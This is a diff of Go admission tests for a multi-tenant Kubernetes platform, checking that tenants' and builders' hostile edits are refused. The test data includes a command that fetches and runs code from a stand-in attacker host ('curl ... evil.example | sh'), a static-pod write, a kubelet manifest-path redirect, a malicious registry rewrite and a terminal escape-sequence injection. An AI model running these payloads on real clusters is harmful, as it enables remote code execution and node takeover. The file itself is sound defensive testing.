+		{name: "a control plane running a command of its own", user: builderA, definition: "KubeadmControlPlane", edit: set("spec.kubeadmConfigSpec.preKubeadmCommands", []any{"curl -s http://evil.example/x | sh"}), refused: "its commands those that restart containerd"},
+		{name: "a control plane writing a static pod", user: builderA, definition: "KubeadmControlPlane", edit: set("spec.kubeadmConfigSpec.files", []any{map[string]any{"path": "/etc/kubernetes/manifests/x.yaml", "content": "x"}}), refused: "a machine's files are"},
+		{name: "workers with a kubelet reading static pods of its own", user: builderA, definition: "KubeadmConfigTemplate", edit: set("spec.template.spec.joinConfiguration.nodeRegistration.kubeletExtraArgs", []any{map[string]any{"name": "pod-manifest-path", "value": "/tmp"}}), refused: "kubelet arguments"},
+		{name: "RKE2 machines with mirrors and a registry's credentials", user: builderA, object: obj("bootstrap.cluster.x-k8s.io/v1beta1", "RKE2ConfigTemplate", "wl1-workers", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
+			"privateRegistriesConfig": map[string]any{"mirrors": map[string]any{"docker.io": map[string]any{"endpoint": []any{"https://mirror.example"}, "rewrite": map[string]any{"^(.*)$": "evil/$1"}}}}}}}}), refused: "spec.template.spec.privateRegistriesConfig.mirrors.docker.io.rewrite: not a field"},
+
+		// No object passes for the platform's: the placement controller's label made a tenant's
+		// release an application's, deleted with it.
+		{name: "a tenant's release placed as an application's", user: tenantA, edit: placed, refused: "metadata.labels.apps.cluster-init.dev/application"},
+		{name: "a tenant's release on a cluster of the placement controller's", user: tenantA, edit: label("apps.cluster-init.dev/cluster", "management"), refused: "metadata.labels.apps.cluster-init.dev/cluster"},
+		{name: "a tenant's release as the platform's", user: tenantA, edit: label("cluster-init.dev/platform", "true"), refused: "metadata.labels.cluster-init.dev/platform"},
+		{name: "a tenant's release moved by the pivot", user: tenantA, edit: annotation("cluster-init.dev/moved-at", "2030-01-01T00:00:00Z"), refused: "metadata.annotations.cluster-init.dev/moved-at"},
+		{name: "a tenant's release with a label of the platform's label of its own", user: tenantA, edit: label("team.cluster-init.dev/x", "y"), refused: "metadata.labels.team.cluster-init.dev/x"},
+		{name: "a tenant's release with labels of its own", user: tenantA, edit: label("example.com/team", "a"), refused: ok},
+		{name: "a unit placed as an application's", user: builderA, unit: "wl1-cluster-ready", edit: placed, refused: "metadata.labels.apps.cluster-init.dev/application"},
+		{name: "a release of the definitions placed as an application's", user: builderA, unit: "HelmRelease/wl1-cluster", edit: placed, refused: "metadata.labels.apps.cluster-init.dev/application"},
+		{name: "a unit labelled as another unit", user: builderA, unit: "wl1-cni", edit: label("cluster-init.dev/unit", "cluster"), refused: "metadata.labels.cluster-init.dev/unit"},
+		{name: "a unit's description writing to a terminal", user: builderA, unit: "wl1-cni", edit: annotation("cluster-init.dev/description", "flannel\x1b]52;c;ZXZpbA==\x07"), refused: "metadata.annotations.cluster-init.dev/description"},
+		{name: "a Cluster of a tenant as the platform's", user: builderA, definition: "Cluster", edit: label("cluster-init.dev/tenant", "true"), refused: "metadata.labels.cluster-init.dev/tenant"},
+		{name: "machines asking the platform's controller never to look again", user: builderA, definition: "DockerMachineTemplate", edit: annotation("cluster-init.dev/look-again-at", "2999-01-01T00:00:00Z"), refused: "metadata.annotations.cluster-init.dev/look-again-at"},
+		{name: "workers' machines labelled as the platform's", user: builderA, definition: "MachineDeployment", edit: func(o map[string]any) {
+			_ = unstructured.SetNestedField(o, "true", "spec", "template", "metadata", "labels", "cluster-init.dev/platform")
+		}, refused: "spec.template.metadata"},
+		{name: "a Helm record as the platform's", user: builderA, object: obj("v1", "Secret", "sh.helm.release.v1.wl1.v2", map[string]any{"type": "helm.sh/release.v1", "metadata": map[string]any{"labels": map[string]any{"cluster-init.dev/repository": "platform"}}}), refused: "metadata.labels.cluster-init.dev/repository"},
+
+		// Every Flux object of a tenant is in its shard.
+		{name: "a tenant's release out of every shard (the platform's controllers')", user: tenantA, edit: shardOf, refused: "metadata.labels.sharding.fluxcd.io/key: expected workload-clusters"},
+		{name: "a tenant's release in another tenant's shard", user: tenantA, edit: label(shardLabel, "team-b"), refused: "metadata.labels.sharding.fluxcd.io/key: expected workload-clusters"},
+		{name: "team-b's release in the default tenant's shard", user: tenantB, ns: "team-b", edit: all(rename("b-one"), label(shardLabel, "workload-clusters")), refused: "expected team-b"},
+		{name: "a unit out of every shard", user: builderA, unit: "wl1-cluster-ready", edit: shardOf, refused: "metadata.labels.sharding.fluxcd.io/key: expected workload-clusters"},
+		{name: "a unit in another tenant's shard", user: builderA, unit: "wl1-cni", edit: label(shardLabel, "team-b"), refused: "sharding.fluxcd.io/key"},
+		{name: "a release of the definitions out of every shard", user: builderA, unit: "HelmRelease/wl1-cluster", edit: shardOf, refused: "sharding.fluxcd.io/key"},
 	}
 }
 
@@ -625,7 +825,7 @@ func TestATenantsAccountsReachTheirNamespaceOnly(t *testing.T) {
 func TestATenantsClustersAreCounted(t *testing.T) {
 	tb := startTenantTestbed(t)
 	cluster := func(name string) *unstructured.Unstructured {
-		o := obj("cluster.x-k8s.io/v1beta2", "Cluster", name, map[string]any{"spec": map[string]any{"paused": true}})()
+		o := clusterOf(name)()
 		o.SetNamespace("team-b")
 		return o
 	}
@@ -722,7 +922,7 @@ func TestABuildersClusterAsItsChartRendersItIsAdmitted(t *testing.T) {
 	}
 	repo := writeRepository(t, map[string]string{
 		"clusters/management/workload-clusters/wl1/cluster.yaml": string(wl1),
-		"clusters/management/team-sim/sim-one/cluster.yaml":      wl1WithoutProviders(t, "sim-one"),
+		"clusters/management/team-sim/sim-one/cluster.yaml":      inTenant(wl1WithoutProviders(t, "sim-one"), "team-sim"),
 	})
 	p, err := workloads.Read(t.Context(), repo, mgmt, nil)
 	if err != nil {
@@ -743,8 +943,7 @@ func TestABuildersClusterAsItsChartRendersItIsAdmitted(t *testing.T) {
 				if o.Release == nil || o.Release.Name != c.Name+"-cluster" {
 					continue
 				}
-				obj := o.Object.DeepCopy()
-				obj.SetNamespace(c.Release.GetNamespace())
+				obj := asApplied(o, c.Name, c.Release.GetNamespace())
 				kinds = append(kinds, obj.GetKind())
 				if err := tb.create(t, builders[obj.GetNamespace()], obj); err != nil {
 					t.Errorf("%s %s/%s refused: %v", obj.GetKind(), obj.GetNamespace(), obj.GetName(), err)
@@ -763,7 +962,7 @@ func TestABuildersClusterAsItsChartRendersItIsAdmitted(t *testing.T) {
 		t.Fatal(err)
 	}
 	_ = unstructured.SetNestedMap(dev.Object, map[string]any{}, "spec", "backend", "docker")
-	if err := tb.as(t, builderSim).Update(t.Context(), dev); err == nil || !strings.Contains(err.Error(), "simulated in memory") {
+	if err := tb.as(t, builderSim).Update(t.Context(), dev); err == nil || !strings.Contains(err.Error(), "spec.backend.docker: not a field") {
 		t.Errorf("a simulated cluster updated to Docker containers: %v", err)
 	}
 }
